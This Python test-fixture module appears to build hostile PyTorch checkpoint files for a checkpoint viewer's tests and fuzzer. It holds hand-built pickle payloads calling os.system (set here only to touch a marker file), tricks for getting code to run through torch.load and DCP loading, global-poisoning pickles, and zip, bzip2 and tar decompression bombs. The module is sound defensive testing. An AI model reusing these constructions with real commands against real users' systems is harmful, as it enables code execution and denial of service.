"""
Hostile files of the kinds an attacker would write, made from real torch.save / safetensors output
and hand-assembled pickle opcodes. Shared by tests/test_hostile_round2.py and the fuzzer
(tests/fuzz.py) as seeds. Every payload global names a command that would create a marker file,
so a test can also check that nothing ran.
"""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from pathlib import Path

import torch

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


# --- pickle opcodes -----------------------------------------------------------------------------

def text(value: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE of `value`."""
    data = value.encode("utf-8")
    return (b"\x8c" + bytes([len(data)]) if len(data) < 256 else b"X" + struct.pack("<I", len(data))) + data


def global_op(module: str, name: str) -> bytes:
    """GLOBAL: `c module\\n name\\n`."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4), where `name` may be dotted: pickle resolves it attribute by attribute."""
    return text(module) + text(name) + b"\x93"


def call_and_drop(callable_ops: bytes, argument: str) -> bytes:
    """Push a global, call it with one string argument, drop the result: the classic payload."""
    return callable_ops + text(argument) + b"\x85R0"


def body(value: object) -> bytes:
    """The opcodes of `pickle.dumps(value, 2)` between PROTO and STOP."""
    data = pickle.dumps(value, protocol=2)
    assert data[:2] == b"\x80\x02" and data[-1:] == b"."
    return data[2:-1]


def payload_then(value: object, marker: Path, *, protocol: int = 2, global_ops: bytes | None = None) -> bytes:
    """A pickle that runs `os.system("touch marker")` and then evaluates to `value`."""
    command = global_ops or global_op("os", "system")
    return b"\x80" + bytes([protocol]) + call_and_drop(command, f"touch {marker}") + body(value) + b"."


# --- torch.save output, taken apart --------------------------------------------------------------

def saved_zip(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer)
    return buffer.getvalue()


def saved_legacy(obj: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def legacy_pickles(data: bytes) -> list[bytes]:
    """A legacy file split into magic, protocol, sys-info, data, keys pickles and the raw storages."""
    stream = io.BytesIO(data)
    parts, start = [], 0

    class Anything(dict):  # accepts whatever the pickle does to it: only the pickles' boundaries matter here
        def __init__(self, *args: object, **kwargs: object) -> None:
            pass

        def __setstate__(self, state: object) -> None:
            pass

    class Loader(pickle.Unpickler):
        def persistent_load(self, saved_id: object) -> object:
            return None

        def find_class(self, module: str, name: str) -> object:
            return Anything

    for _ in range(5):
        Loader(stream).load()
        parts.append(data[start:stream.tell()])
        start = stream.tell()
    parts.append(data[start:])
    return parts


def zip_members(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def write_zip(path: Path, members: list[tuple[str, bytes]], compression: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", compression=compression) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, compress_type=compression)
    return path


def replace_member(members: list[tuple[str, bytes]], suffix: str, data: bytes) -> list[tuple[str, bytes]]:
    return [(name, data if name.endswith(suffix) else old) for name, old in members]


# --- the families ------------------------------------------------------------------------------

def legacy_side_pickle(tmp: Path, position: int, marker: Path) -> Path:
    """A legacy torch file whose magic (0), protocol (1), sys-info (2) or storage-key (4) pickle
    carries the payload; the rest is a real torch.save file."""
    parts = legacy_pickles(saved_legacy({"w": torch.arange(4.0)}))
    values = [LEGACY_MAGIC, 1001, pickle.loads(parts[2]), None, pickle.loads(parts[4])]
    parts[position] = payload_then(values[position], marker)
    path = tmp / f"legacy-side-{position}.pt"
    path.write_bytes(b"".join(parts))
    return path


def zip_duplicate_data_pkl(tmp: Path, marker: Path, evil_first: bool) -> Path:
    """Two members named .../data.pkl: torch's reader and Python's zipfile each pick one."""
    members = zip_members(saved_zip({"w": torch.arange(4.0)}))
    data_name, benign = next((n, d) for n, d in members if n.endswith("/data.pkl"))
    evil = payload_then({"w": 1}, marker)
    copies = [(data_name, evil), (data_name, benign)] if evil_first else [(data_name, benign), (data_name, evil)]
    path = tmp / f"duplicate-{'evil' if evil_first else 'benign'}-first.pt"
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        return write_zip(path, [m for m in members if m[0] != data_name] + copies)


def zip_second_folder(tmp: Path, marker: Path) -> Path:
    """torch reads the folder of the first entry; a benign data.pkl sits in another folder."""
    members = zip_members(saved_zip({"w": torch.arange(4.0)}))
    evil = [("evil/version", b"3\n"), ("evil/data.pkl", payload_then({"w": 1}, marker))]
    return write_zip(tmp / "second-folder.pt", evil + members)


def dcp_metadata_payload(tmp: Path, marker: Path, module: str, name: str) -> Path:
    """A real DCP folder whose .metadata first calls `module.name` (a dotted STACK_GLOBAL)."""
    import torch.distributed.checkpoint as dcp

    folder = tmp / f"dcp-{module}-{name}".replace("/", "_")
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"w": torch.ones(3)}, checkpoint_id=str(folder), no_dist=True)
    metadata = pickle.loads((folder / ".metadata").read_bytes())
    (folder / ".metadata").write_bytes(payload_then(metadata, marker, protocol=4,
                                                    global_ops=stack_global(module, name)))
    return folder


# --- code, then a failure: torch.load has run the payload before it raises ---------------------------

def code_then_failure(tmp: Path, marker: Path, kind: str) -> Path:
    """
    A file torch.load fails on only after unpickling a payload: a legacy file whose protocol record
    the payload replaces ("legacy-protocol", torch raises "Invalid protocol version"), or whose storages
    are cut off after a data pickle that starts with it ("legacy-truncated"), and an archive whose
    data.pkl starts with it and refers to a storage member that is gone ("zip-missing-storage").
    """
    payload = call_and_drop(global_op("os", "system"), f"touch {marker}")
    if kind == "zip-missing-storage":
        members = zip_members(saved_zip({"w": torch.arange(4.0)}))
        data = next(d for n, d in members if n.endswith("/data.pkl"))
        members = [(n, d) for n, d in members if "/data/" not in n]
        data_pkl = data[:2] + payload + data[2:]  # after PROTO 2: the payload, then the state dict
        return write_zip(tmp / f"{kind}.pt", replace_member(members, "/data.pkl", data_pkl))
    parts = legacy_pickles(saved_legacy({"w": torch.arange(1000.0)}))
    if kind == "legacy-protocol":
        parts[1] = payload_then(0, marker)
        return _written(tmp / f"{kind}.pt", b"".join(parts))
    assert kind == "legacy-truncated"
    parts[3] = parts[3][:2] + payload + parts[3][2:]
    return _written(tmp / f"{kind}.pt", b"".join(parts)[:-100])


def past_what_ckptview_refuses(tmp: Path, marker: Path, kind: str) -> Path:
    """
    Payloads torch.load reaches where ckptview's reading stops short: after a call ckptview's unpickler
    refuses and the real one makes ("numpy-call": `numpy.dtypes.Float64DType()`, which numpy's own
    pickles never call), in a data.pkl whose recorded CRC-32 no longer matches ("bad-checksum":
    torch's zip reader checks none), or after a tensor whose storage was re-zipped with deflate
    ("deflated-storage": ckptview refuses the storage, torch inflates it).
    """
    payload = call_and_drop(global_op("os", "system"), f"touch {marker}")
    if kind == "numpy-call":
        return _written(tmp / f"{kind}.pkl", b"\x80\x02" + global_op("numpy.dtypes", "Float64DType") + b")R0"
                        + payload + b"N.")
    members = zip_members(saved_zip({"w": torch.arange(4.0)}))
    data_pkl = next(d for n, d in members if n.endswith("/data.pkl"))
    if kind == "deflated-storage":  # re-zipped with deflate, which torch reads; the payload after the tensor
        return write_zip(tmp / f"{kind}.pt", replace_member(members, "/data.pkl", data_pkl[:-1] + payload + b"."),
                         compression=zipfile.ZIP_DEFLATED)
    assert kind == "bad-checksum"
    path = write_zip(tmp / f"{kind}.pt", replace_member(members, "/data.pkl", data_pkl[:2] + payload + data_pkl[2:]))
    archive = bytearray(path.read_bytes())
    # data.pkl is the first member: its CRC-32 in the local header (byte 14) and in its directory entry (16)
    for at in (14, archive.index(b"PK\x01\x02") + 16):
        archive[at] ^= 0xFF
    path.write_bytes(archive)
    return path


def legacy_tar(tmp: Path, marker: Path, payload_in: str | None) -> Path:
    """
    A file in torch's pre-1.0 tar format, laid out as torch.load's `legacy_load` reads it: `storages`
    (a count; per storage its (key, location, storage class), element count and bytes; the views),
    `tensors` (a count; per tensor its (key, storage key, tensor class), ndim, padding, sizes, strides,
    offset) and `pickle` (the object, tensors by persistent id). `payload_in`: the member whose last
    pickle runs the payload first, or None for none.
    """
    import tarfile

    def dumped(value: object, member: str, persistent: dict[int, str] | None = None) -> bytes:
        buffer = io.BytesIO()
        pickler = pickle.Pickler(buffer, protocol=2)
        if persistent:
            pickler.persistent_id = lambda obj: persistent.get(id(obj))  # type: ignore[method-assign]
        pickler.dump(value)
        data = buffer.getvalue()
        return payload_then(value, marker) if member == payload_in and not persistent else data

    values = b"".join(struct.pack("<f", v) for v in (1.0, 2.0, 3.0, 4.0))
    storages = (dumped(1, "") + dumped(("0", "cpu", torch.FloatStorage), "") + struct.pack("<q", 4) + values
                + dumped([], "storages"))
    tensors = (dumped(1, "") + dumped((1, "0", torch.FloatTensor), "tensors")
               + struct.pack("<ii", 1, 0) + struct.pack("<q", 4) + struct.pack("<q", 1) + struct.pack("<q", 0))
    weight = object()
    root = dumped({"w": weight}, "pickle", {id(weight): "1"})
    if payload_in == "pickle":  # the payload first, then the state dict with its persistent id
        root = root[:2] + call_and_drop(global_op("os", "system"), f"touch {marker}") + root[2:]
    path = tmp / f"legacy-tar-{payload_in or 'benign'}.pt"
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("sys_info", dumped({"little_endian": True}, "")), ("storages", storages),
                           ("tensors", tensors), ("pickle", root)):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def tar_header_bomb(tmp: Path, size: int = 1 << 30) -> Path:
    """A tar whose first header is a pax header `size` bytes long (tarfile reads one whole), the file
    sparse past its first block: cheap on disk, as large as the header claims."""
    import tarfile

    header = tarfile.TarInfo("././@PaxHeader")
    header.type, header.size = tarfile.XHDTYPE, size
    path = tmp / "pax-header-bomb.tar"
    with open(path, "wb") as stream:
        stream.write(header.tobuf(format=tarfile.USTAR_FORMAT))
        stream.seek(512 + size - 1)
        stream.write(b"\0")
    return path


def _written(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


class _Payload:
    """An object whose unpickling runs `touch marker`: what torch.save writes for it is the payload."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (f"touch {self.marker}",)


def dcp_bytes_item_payload(tmp: Path, marker: Path) -> Path:
    """A real DCP folder with a non-tensor item, which dcp.load reads with torch.load(weights_only=False)."""
    import warnings

    import torch.distributed.checkpoint as dcp

    folder = tmp / "dcp-bytes-item"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"w": torch.ones(3), "extra": _Payload(marker)}, checkpoint_id=str(folder), no_dist=True)
    return folder


def dcp_item_replaced_by_pickle(tmp: Path, marker: Path) -> Path:
    """A real DCP folder whose non-tensor item's bytes are overwritten, in place, by a plain pickle
    running the payload: no torch.save archive, which dcp.load hands to torch.load all the same."""
    folder = dcp_bytes_item_payload(tmp, marker)
    metadata = pickle.loads((folder / ".metadata").read_bytes())  # written just now by torch: trusted
    index, info = next((index, info) for index, info in metadata.storage_data.items() if index.fqn == "extra")
    replacement = payload_then(None, marker)
    data_file = folder / info.relative_path
    data = bytearray(data_file.read_bytes())
    data[info.offset:info.offset + info.length] = replacement + bytes(info.length - len(replacement))
    data_file.write_bytes(data)
    return folder


# --- poisoning: BUILD aimed at objects the unpickler hands out or makes ------------------------

def _storage_ref(storage_global: bytes, key: str, numel: int) -> bytes:
    # persistent id ('storage', <storage type>, key, 'cpu', numel)
    return b"(" + text("storage") + storage_global + text(key) + text("cpu") + b"J" + struct.pack("<i", numel) + b"tQ"


def tensor_ops(key: str, numel: int, storage_global: bytes | None = None) -> bytes:
    """_rebuild_tensor_v2(storage, 0, (numel,), (1,), False, OrderedDict())."""
    storage_global = storage_global or global_op("torch", "FloatStorage")
    return (global_op("torch._utils", "_rebuild_tensor_v2") + b"(" + _storage_ref(storage_global, key, numel)
            + b"K\x00" + b"J" + struct.pack("<i", numel) + b"\x85" + b"K\x01\x85" + b"\x89"
            + global_op("collections", "OrderedDict") + b")Rt" + b"R")


def zip_with_data_pkl(path: Path, data_pkl: bytes, storages: dict[str, bytes]) -> Path:
    members = [("archive/data.pkl", data_pkl), ("archive/byteorder", b"little")]
    members += [(f"archive/data/{key}", raw) for key, raw in storages.items()]
    members.append(("archive/version", b"3\n"))
    return write_zip(path, members)


def poisoning_files(tmp: Path) -> dict[str, Path]:
    """Files whose pickle BUILDs into a shared global or into a record ckptview made."""
    floats = struct.pack("<4f", 1.5, 2.5, 3.5, 4.5)
    dict_state = lambda key, value: b"}" + text(key) + value + b"s"  # noqa: E731 - {key: value}
    slot_state = lambda key, value: b"N" + dict_state(key, value) + b"\x86"  # noqa: E731 - (None, {key: value})
    uint8 = global_op("torch", "uint8")
    cases: dict[str, bytes] = {
        # torch.FloatStorage's dtype rewritten to uint8 for every later file
        "storage-type-dict": global_op("torch", "FloatStorage") + dict_state("dtype", uint8) + b"b0",
        "storage-type-slots": global_op("torch", "FloatStorage") + slot_state("dtype", uint8) + b"b0",
        # a rebuild function's defaults and a class's methods rewritten
        "function-defaults": global_op("torch._utils", "_rebuild_tensor_v2")
        + slot_state("__defaults__", b")") + b"b0",
        "counter-class": global_op("collections", "Counter") + slot_state("most_common", b"K\x01") + b"b0",
        # a record ckptview built: the tensor's shape changed after it was checked
        "tensor-record": b"",
        # an OrderedDict whose items() is shadowed
        "ordered-dict-items": b"",
    }
    files = {}
    for name, prefix in cases.items():
        if name == "tensor-record":
            data = b"\x80\x02}" + text("w") + tensor_ops("0", 4) + dict_state("shape", b"J\x00\x00\x00\x40\x85") + b"bs."
        elif name == "ordered-dict-items":
            data = (b"\x80\x02" + global_op("collections", "OrderedDict") + b")R" + text("w") + tensor_ops("0", 4)
                    + b"s" + dict_state("items", b"K\x01") + b"b.")
        else:
            data = b"\x80\x02" + prefix + b"}" + text("w") + tensor_ops("0", 4) + b"s."
        files[name] = zip_with_data_pkl(tmp / f"poison-{name}.pt", data, {"0": floats})
    return files


# --- bombs ---------------------------------------------------------------------------------------

def deflate_bomb(tmp: Path, member_suffix: str, inflated: int) -> Path:
    """A torch zip whose `member_suffix` member inflates to `inflated` bytes of zeros (deflated honestly)."""
    members = zip_members(saved_zip({"w": torch.arange(4.0)}))
    name = next(n for n, _ in members if n.endswith(member_suffix))
    path = tmp / f"bomb-{member_suffix.strip('/').replace('/', '-')}-{inflated >> 20}M.pt"
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in members:
            if member != name:
                archive.writestr(zipfile.ZipInfo(member), data)
                continue
            info = zipfile.ZipInfo(member)
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as stream:
                block = bytes(16 << 20)
                for _ in range(inflated // len(block)):
                    stream.write(block)
    return path


def bzip2_member(tmp: Path) -> Path:
    """data.pkl compressed with bzip2: Python's zipfile inflates a bzip2 block in one call."""
    members = zip_members(saved_zip({"w": torch.arange(4.0)}))
    path = tmp / "bzip2.pt"
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in members:
            info = zipfile.ZipInfo(member)
            info.compress_type = zipfile.ZIP_BZIP2 if member.endswith("data.pkl") else zipfile.ZIP_STORED
            archive.writestr(info, data)
    return path


def overlapping_view(tmp: Path, rows: int = 1 << 16) -> Path:
    """A 256 KiB storage viewed as rows x 65,536 floats with stride (0, 1): 16 GiB if materialised."""
    data = (global_op("torch._utils", "_rebuild_tensor_v2") + b"(" + _storage_ref(global_op("torch", "FloatStorage"),
                                                                                     "0", 1 << 16)
            + b"K\x00" + b"J" + struct.pack("<i", rows) + b"J" + struct.pack("<i", 1 << 16) + b"\x86"
            + b"K\x00K\x01\x86" + b"\x89" + global_op("collections", "OrderedDict") + b")Rt" + b"R")
    pkl = b"\x80\x02}" + text("w") + data + b"s."
    return zip_with_data_pkl(tmp / "overlapping-view.pt", pkl, {"0": bytes(4 << 16)})


def nested(tmp: Path, depth: int, kind: str) -> Path:
    """A torch zip whose data.pkl is `depth` nested lists ("list") or tuples ("tuple") around a tensor."""
    inner = b"}" + text("w") + tensor_ops("0", 4) + b"s"
    if kind == "list":
        ops = b"]" * depth + inner + b"a" * depth
    else:
        ops = inner + b"\x85" * depth
    return zip_with_data_pkl(tmp / f"nested-{kind}-{depth}.pt", b"\x80\x02" + ops + b".", {"0": bytes(16)})


def many_tensor_safetensors(path: Path, count: int) -> Path:
    """A safetensors file of `count` one-element float32 tensors, written as safetensors lays it out."""
    header = {f"t.{i}": {"dtype": "F32", "shape": [1], "data_offsets": [4 * i, 4 * i + 4]} for i in range(count)}
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    with open(path, "wb") as stream:
        stream.write(struct.pack("<Q", len(raw)) + raw)
        stream.write(struct.pack(f"<{count}f", *range(count)))
    return path

